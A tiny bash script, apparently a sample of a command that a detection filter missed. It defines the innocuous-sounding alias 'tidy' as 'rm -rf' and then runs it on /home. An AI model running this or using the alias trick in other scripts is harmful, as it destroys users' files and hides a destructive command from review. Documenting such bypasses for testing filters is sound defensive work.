#!/bin/bash
# Missed: an alias is text that becomes a command later
shopt -s expand_aliases
alias tidy='rm -rf'
tidy /home
